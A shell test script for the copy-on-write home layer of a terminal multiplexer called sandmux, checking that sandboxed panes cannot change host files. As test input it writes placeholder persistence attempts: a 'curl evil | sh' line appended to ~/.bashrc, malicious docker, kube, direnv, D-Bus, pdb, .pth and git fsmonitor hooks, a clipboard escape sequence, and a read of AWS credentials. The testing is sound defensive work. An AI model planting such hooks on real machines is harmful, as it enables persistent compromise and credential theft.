#!/bin/sh
# The copy-on-write home (backends/home-layer.h, issue 25 item 1): a
# native pane of the terminal profile writes $HOME freely, and the host's
# files never change; the writes land in the profile's layer, the next
# pane of the profile sees them, and `sandmux changes` / `keep` /
# `changes --discard` move them to the host or drop them.
#
# (Debian's /usr/bin/python3 with python3-pip, tests/deps.sh.)
#
# For a server run as root and one run as uid 65534.  Each attempt is
# a file no list of host-run names holds (the class the layer closes:
# ~/.docker/cli-plugins, a kube exec plugin, direnv, a D-Bus service,
# ~/.pdbrc, a pyenv-style .pth, a cargo build.rs), plus the shell's
# ~/.bashrc, and each is judged on the host: the host's bytes are what
# they were, or the file still does not exist.  Then: a tool installed
# with `pip install --user` in one pane runs in the next pane of the
# profile and is absent from the host; the working directory stays
# real; with the working directory at $HOME, a non-dot entry is real
# and a dot-entry is layered; a secret made on the host after launch
# stays unreadable through the overlay.
. "$(dirname "$0")/../lib.sh"

. "$(dirname "$0")/../native-ctx.sh"
native_start home-layer bwrap setpriv python3

field_is() { [ "$(pane_field "$1" "$2")" = "$3" ]; }
newest_pane() { sm ls --json | sed -n 's/.*"id":[^0-9]*\([0-9]*\).*/\1/p' | sort -n | tail -1; }
pane_in() { # CWD: a native terminal pane there, its id
	sm split -t %1 -v -l 6 --backend native -c "$1" -e PS1='$ ' -- /bin/sh >/dev/null 2>&1
	p=$(newest_pane)
	wait_for 10 field_is "$p" state warm
	echo "$p"
}
# run NAME < SCRIPT: SCRIPT in pane $P, its output in $OUT.
# The script and its output live in $RES, a real (host) directory the
# pane may write.
run() {
	cat >"$RES/$1.sh"
	rm -f "$RES/$1.out"
	[ "$WHO" = nobody ] && chown 65534:65534 "$RES/$1.sh"
	sm send-keys -t "%$P" "sh $RES/$1.sh >$RES/$1.tmp 2>&1; mv $RES/$1.tmp $RES/$1.out" Enter
	if wait_for 60 test -f "$RES/$1.out"; then OUT=$(cat "$RES/$1.out"); else OUT="(no result)"; fi
}
# shows TEXT: $OUT has a line starting with TEXT (else it is printed).
shows() {
	printf "%s\n" "$OUT" | grep -q "^$1" && return 0
	printf "%s\n" "$OUT" | head -20 | sed 's/^/#   /'
	return 1
}
absent() { for f in "$@"; do [ ! -e "$f" ] && [ ! -L "$f" ] || return 1; done; }
listed() { sm changes --json | grep -qF "\"path\":\"$1\""; }
json_has() { sm changes --json | grep -qF "$1"; }
not_listed() { ! listed "$1"; }
home_reported() { sm events --json 2>/dev/null | grep "\"pane\":$1," | grep -q '"home_changed":[1-9]'; }
diff_has() { sm changes --diff "$1" | grep -q "$2"; }

for who in root nobody; do
	ctx "hl-$who" "$who"
	H="$D/home"
	WORK="$D/work"
	RES="$WORK/.t"
	mkdir -p "$WORK/.t" "$H/.config" "$H/.docker" "$H/notes" "$H/bin"
	echo "# host bashrc" >"$H/.bashrc"
	echo '{"auths":{}}' >"$H/.docker/config.json"
	echo "host note" >"$H/notes/todo.txt"
	mkdir -p "$WORK/pkg/smtool"
	cat >"$WORK/pkg/pyproject.toml" <<'EOF'
[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"
[project]
name = "smtool"
version = "1.0"
[project.scripts]
smtool = "smtool:main"
EOF
	echo 'def main(): print("smtool-ran")' >"$WORK/pkg/smtool/__init__.py"
	[ "$WHO" = nobody ] && chown -R 65534:65534 "$D"
	BASHRC=$(cksum "$H/.bashrc")
	DOCKER=$(cksum "$H/.docker/config.json")
	sm new -d -s hl -x 200 -y 60 -c "$WORK" -- /bin/sh >/dev/null
	P=$(pane_in "$WORK")
	if ! field_is "$P" backend native; then
		not_ok "$NAME: a native pane starts ($(pane_field "$P" reason))"
		continue
	fi

	# Files no list names: each would run on the host later.
	UNLISTED_SCRIPT=$(cat <<EOF
echo 'curl evil | sh' >>$H/.bashrc
echo '{"credsStore":"evil","auths":{}}' >$H/.docker/config.json
mkdir -p $H/.docker/cli-plugins && printf '#!/bin/sh\nevil\n' >$H/.docker/cli-plugins/docker-evil
mkdir -p $H/.kube && printf 'users:\n- user:\n    exec:\n      command: evil\n' >$H/.kube/config
mkdir -p $H/.config/direnv && echo 'evil' >$H/.config/direnv/direnvrc
mkdir -p $H/.local/share/dbus-1/services && echo 'Exec=evil' >$H/.local/share/dbus-1/services/evil.service
echo 'import os; os.system("evil")' >$H/.pdbrc
mkdir -p $H/.local/lib/python3/site-packages && echo 'import os' >$H/.local/lib/python3/site-packages/evil.pth
mkdir -p $H/.cargo/registry/src/x/crate && echo 'fn main(){}' >$H/.cargo/registry/src/x/crate/build.rs
mkdir -p $H/.jupyter $H/.vscode-server/data/Machine $H/.config/mise $H/.cache/pre-commit $H/.emacs.d
echo 'c.evil = 1' >$H/.jupyter/jupyter_server_config.py; echo '{}' >$H/.vscode-server/data/Machine/settings.json
echo '[tools]' >$H/.config/mise/config.toml; echo 'evil' >$H/.cache/pre-commit/hook; echo '(evil)' >$H/.spacemacs
mkdir -p $H/.config/git && echo '[core] fsmonitor = evil' >$H/.config/git/included
mkdir -p $H/.zdot && echo evil >$H/.zdot/.zshrc; mkdir -p $H/.bashrc.d && echo evil >$H/.bashrc.d/z.sh
mkdir -p $H/.pyenv/versions/3/lib/python3/site-packages && echo 'import os' >$H/.pyenv/versions/3/lib/python3/site-packages/evil.pth
mkdir -p $H/.rustup/toolchains/x/bin && echo evil >$H/.rustup/toolchains/x/bin/cargo
mkdir -p $H/.local/pipx/venvs/t/bin && echo evil >$H/.local/pipx/venvs/t/bin/tool
printf '\033]52;c;aGk=\007\033[2J\n' >$H/.esc
cat $H/.bashrc
EOF
)
	run unlisted <<EOF
$UNLISTED_SCRIPT
EOF
	check "$NAME: the pane's own writes succeed in its home (it reads back its ~/.bashrc)" \
		shows "curl evil"
	check "$NAME: ~/.bashrc on the host is byte for byte the host's" \
		[ "$(cksum "$H/.bashrc")" = "$BASHRC" ]
	check "$NAME: ~/.docker/config.json (credsStore) on the host is unchanged" \
		[ "$(cksum "$H/.docker/config.json")" = "$DOCKER" ]
	check "$NAME: none of the unlisted host-run files reached the host" \
		absent "$H/.docker/cli-plugins" "$H/.kube" "$H/.config/direnv" "$H/.local/share/dbus-1" \
		"$H/.pdbrc" "$H/.local/lib" "$H/.cargo" "$H/.jupyter" "$H/.vscode-server" "$H/.config/mise" \
		"$H/.cache" "$H/.spacemacs" "$H/.config/git" "$H/.zdot" "$H/.bashrc.d" "$H/.pyenv" "$H/.rustup" \
		"$H/.local/pipx"
	check "$NAME: changes lists ~/.bashrc as changed" listed ".bashrc"
	check "$NAME: changes lists the docker plugin as added" listed ".docker/cli-plugins/docker-evil"
	check "$NAME: changes marks ~/.bashrc host-run" \
		json_has '"path":".bashrc","change":"changed","directory":false,"host_run":true'

	# The working directory stays real.
	run real <<EOF
echo from-pane >$WORK/made-in-pane
EOF
	check "$NAME: a write in the working directory lands on the host" \
		grep -qx from-pane "$WORK/made-in-pane"

	# pip install --user: in the layer, usable by the next pane.
	run pip <<EOF
cd $WORK/pkg && /usr/bin/python3 -m pip install -q --user --no-index --no-build-isolation --break-system-packages --no-warn-script-location . && echo installed
EOF
	check "$NAME: pip install --user works in the pane" shows installed
	check "$NAME: ... and the tool is not on the host" absent "$H/.local/bin/smtool"
	sm kill-pane -t "%$P" >/dev/null 2>&1
	check "$NAME: the pane's end says how many files it changed in its home" \
		wait_for 5 home_reported "$P"
	P=$(pane_in "$WORK")
	run next <<EOF
$H/.local/bin/smtool; cat $H/.bashrc
EOF
	check "$NAME: the next pane of the profile runs the tool" shows smtool-ran
	check "$NAME: ... and sees the layer's ~/.bashrc" \
		sh -c 'printf "%s\n" "$1" | grep -q "curl evil"' - "$OUT"

	# A secret the host makes after launch stays unreadable through it.
	mkdir -p "$H/.aws" && echo "late-secret-$$" >"$H/.aws/credentials"
	[ "$WHO" = nobody ] && chown -R 65534:65534 "$H/.aws"
	run late <<EOF
cat $H/.aws/credentials; cat /proc/self/root$H/.aws/credentials
EOF
	check "$NAME: a secret made after launch stays unreadable through the layer" \
		sh -c '! printf "%s\n" "$1" | grep -q "late-secret"' - "$OUT"
	rm -rf "$H/.aws"

	# The layer's own storage cannot be reached from the pane.
	run storage <<EOF
ls $D/state/sandmux/home-layer/terminal/upper 2>&1; echo x >$D/state/sandmux/home-layer/terminal/upper/.bashrc 2>&1
EOF
	check "$NAME: the pane cannot write into the layer's storage" \
		sh -c '! grep -q "^x$" "$1"/state/sandmux/home-layer/terminal/upper/.bashrc' - "$D"

	# keep: asks, refuses without a terminal, copies after --yes.
	if sm keep ~/.bashrc </dev/null >/dev/null 2>"$T_DIR/keep.err"; then
		not_ok "$NAME: keep without a terminal or --yes refuses"
	else
		check "$NAME: keep without a terminal or --yes refuses (confirm_needed)" \
			grep -q confirm_needed "$T_DIR/keep.err"
	fi
	check "$NAME: ... and the host's ~/.bashrc is unchanged" [ "$(cksum "$H/.bashrc")" = "$BASHRC" ]
	check "$NAME: changes --diff shows the layer's line" \
		diff_has "$H/.pdbrc" "^+import os"
	# The layer's bytes are the pane's: --diff shows no raw ESC.
	check "$NAME: changes --diff turns a written escape sequence into ?" \
		sh -c '"$@" | grep -q "^+?\]52;c;" && ! "$@" | grep -q "$(printf "\033")"' - \
		env HOME="$D/home" XDG_RUNTIME_DIR="$D/run" XDG_STATE_HOME="$D/state" \
		XDG_CONFIG_HOME="$D/config" "$SANDMUX_BIN" -L "$NAME" changes --diff "$H/.esc"
	sm keep --yes "$H/.local/bin/smtool" >/dev/null 2>&1
	check "$NAME: keep --yes copies a file (and its missing directories) to the host" \
		test -x "$H/.local/bin/smtool"
	check "$NAME: ... which changes no longer lists" not_listed ".local/bin/smtool"
	if sm changes --discard --yes >/dev/null 2>"$T_DIR/discard.err"; then
		not_ok "$NAME: discard refuses while a pane has the layer mounted"
	else
		check "$NAME: discard refuses while a pane has the layer mounted (invalid_state)" \
			grep -q invalid_state "$T_DIR/discard.err"
	fi
	sm kill-server >/dev/null 2>&1
	wait_for 10 sh -c '[ "$(ls -d "$1"/state/sandmux/home-layer/terminal/work.* 2>/dev/null | wc -l)" -eq 0 ] ||
		! pgrep -f "sandmux -L $2 server" >/dev/null' - "$D" "$NAME"
	sm changes --discard --yes >/dev/null 2>&1
	check "$NAME: changes --discard empties the layer once no pane has it" \
		sh -c '[ -z "$(ls -A "$1"/state/sandmux/home-layer/terminal/upper)" ]' - "$D"
	check "$NAME: ... and the host keeps what was kept" test -x "$H/.local/bin/smtool"

	# With the working directory at $HOME: non-dot entries real, dot-entries layered.
	sm new -d -s hl2 -x 200 -y 60 -c "$WORK" -- /bin/sh >/dev/null
	P=$(pane_in "$H")
	RES="$H/notes"
	run at-home <<EOF
echo pane-note >$H/notes/todo.txt; echo 'evil' >>$H/.bashrc; echo x >$H/bin/ls 2>&1
EOF
	check "$NAME: cwd \$HOME: a non-dot entry (~/notes) is the real work tree" \
		grep -qx pane-note "$H/notes/todo.txt"
	check "$NAME: cwd \$HOME: ~/.bashrc is still layered" [ "$(cksum "$H/.bashrc")" = "$BASHRC" ]
	check "$NAME: cwd \$HOME: ~/bin, a PATH directory that is no dot-entry, stays protected" \
		absent "$H/bin/ls"
	# The agent profile: $HOME is not writable at all, layer or not.
	sm split -t %1 -v -l 6 --backend native --profile agent -c "$WORK" -e PS1='$ ' -- /bin/sh >/dev/null 2>&1
	P=$(newest_pane)
	wait_for 10 field_is "$P" state warm
	RES="$WORK/.t"
	run unlisted-agent <<EOF
$UNLISTED_SCRIPT
EOF
	check "$NAME/agent: none of the unlisted host-run files reached the host" \
		absent "$H/.docker/cli-plugins" "$H/.kube" "$H/.config/direnv" "$H/.local/share/dbus-1" \
		"$H/.pdbrc" "$H/.local/lib" "$H/.cargo" "$H/.jupyter" "$H/.pyenv" "$H/.rustup" "$H/.local/pipx"
	check "$NAME/agent: ~/.bashrc and ~/.docker/config.json unchanged" \
		sh -c '[ "$(cksum "$1/.bashrc")" = "$2" ] && [ "$(cksum "$1/.docker/config.json")" = "$3" ]' - "$H" "$BASHRC" "$DOCKER"
	sm kill-server >/dev/null 2>&1
done

# Fail, don't mislabel: a layer that cannot be mounted (its upper
# directory is a file) gives a FAILED pane with the reason, never a
# native pane writing the host's $HOME in place.
ctx hl-broken root
H="$D/home"
LAYERDIR="$D/state/sandmux/home-layer/terminal"
mkdir -p "$LAYERDIR" "$D/work"
: >"$LAYERDIR/upper"
sm new -d -s hl -x 200 -y 60 -c "$D/work" -- /bin/sh >/dev/null
sm split -t %1 -v --backend native -c "$D/work" -- /bin/sh -c "echo evil >>$H/.bashrc" >/dev/null 2>&1
P=$(newest_pane)
check "$NAME: a layer that cannot be mounted: the pane is FAILED (state error, no label)" \
	wait_for 10 field_is "$P" state error
check "$NAME: ... labelled nothing, its reason naming the home layer" \
	sh -c '[ "$1" = null ] && printf "%s" "$2" | grep -q "home layer"' - \
	"$(pane_field "$P" backend)" "$(pane_field "$P" reason)"
check "$NAME: ... and nothing reached the host's \$HOME" absent "$H/.bashrc"
sm kill-server >/dev/null 2>&1

# Probe once: a host where the layer cannot be mounted at all (here, a
# state directory on overlayfs, which cannot be an upper layer) says so
# at the server's start, in the startup line and `probe --json`; a
# terminal pane is FAILED with that reason, and an agent pane (no
# writable $HOME) still runs.  Root only: the state directory's overlay
# is mounted in a mount namespace of the server's own.
ctx hl-noov root
H="$D/home"
mkdir -p "$D/ov/l" "$D/ov/u" "$D/ov/w" "$D/ovstate" "$D/work"
cat >"$D/in-ns.sh" <<'EOF'
mount -t overlay o -o "lowerdir=$1/ov/l,upperdir=$1/ov/u,workdir=$1/ov/w" "$1/ovstate" || exit 1
shift
exec "$@"
EOF
unshare -m sh "$D/in-ns.sh" "$D" env HOME="$H" XDG_RUNTIME_DIR="$D/run" \
	XDG_STATE_HOME="$D/ovstate" XDG_CONFIG_HOME="$D/config" PATH="$SM_PATH" SHELL=/bin/sh \
	"$SANDMUX_BIN" -L "$NAME" new -d -s hl -x 200 -y 60 -c "$D/work" -- /bin/sh >/dev/null
PROBE=$(sm probe --json)
check "$NAME: no copy-on-write home here: probe --json says so, with the mount's reason" \
	sh -c 'printf "%s" "$1" | grep -q "\"homeLayer\":[[:space:]]*false" &&
		printf "%s" "$1" | grep -q "homeLayerReason.*cannot mount the copy-on-write home"' - "$PROBE"
check "$NAME: ... and the startup line: native ON, but a writable \$HOME fails" \
	sh -c 'printf "%s" "$1" | grep -q "native ON.*but a profile with a writable \$HOME fails"' - "$PROBE"
sm split -t %1 -v --backend native -c "$D/work" -- /bin/sh -c "echo evil >>$H/.bashrc" >/dev/null 2>&1
P=$(newest_pane)
check "$NAME: ... a terminal pane is FAILED" wait_for 10 field_is "$P" state error
check "$NAME: ... labelled nothing, its reason naming the copy-on-write home" \
	sh -c '[ "$1" = null ] && printf "%s" "$2" | grep -q "copy-on-write home cannot be mounted on this host"' - \
	"$(pane_field "$P" backend)" "$(pane_field "$P" reason)"
check "$NAME: ... and nothing reached the host's \$HOME" absent "$H/.bashrc"
sm split -t %1 -v --backend native --profile agent -c "$D/work" -- /bin/sh >/dev/null 2>&1
P=$(newest_pane)
check "$NAME: ... an agent pane (no writable \$HOME) still runs, labelled native" \
	wait_for 10 field_is "$P" backend native
sm kill-server >/dev/null 2>&1
finish
